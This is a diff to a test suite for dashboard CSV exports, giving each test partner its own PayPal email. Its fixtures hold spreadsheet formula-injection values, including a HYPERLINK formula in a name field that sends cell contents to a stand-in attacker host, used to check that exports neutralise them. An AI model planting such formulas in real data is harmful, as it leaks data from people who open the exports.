@@ -88,7 +88,8 @@ describe('dashboard CSV exports', () => {
   beforeAll(async () => {
     ({ agent } = await dashboardAgent(t, org));
     program = await createProgram(t, org, { currency_code: 'USD', minimum_payout: 100 });
-    const paypal = { payout_method: 'paypal', payout_details: { email: uniqueEmail('paypal') } };
+    // Each its own PayPal account: two partners paid into one would be held for review (ingest/docs/risk.md).
+    const paypal = () => ({ payout_method: 'paypal', payout_details: { email: uniqueEmail('paypal') } });
     hyperlink = await createPartner(t, org, {
       program_id: program.id,
       first_name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
@@ -96,9 +97,9 @@ describe('dashboard CSV exports', () => {
       company_name: '+1 555 0100',
       internal_note: '-2+3',
       status: 'active',
-      ...paypal,
+      ...paypal(),
     });
-    plain = await createPartner(t, org, { program_id: program.id, first_name: 'Zoë', last_name: 'Quote "Q", Comma', ...paypal });
+    plain = await createPartner(t, org, { program_id: program.id, first_name: 'Zoë', last_name: 'Quote "Q", Comma', ...paypal() });
     // The API trims names; text may still reach SQL with a leading tab or carriage return (from Stripe, an import).
     const pending = await createPartner(t, org, { program_id: program.id, first_name: 'Tab', last_name: 'Lead', status: 'pending' });
     await sql`update partners set last_name = ${'\tlead'}, company_name = ${'\rreturn'} where id = ${pending.id}`.execute(t.storage.db);
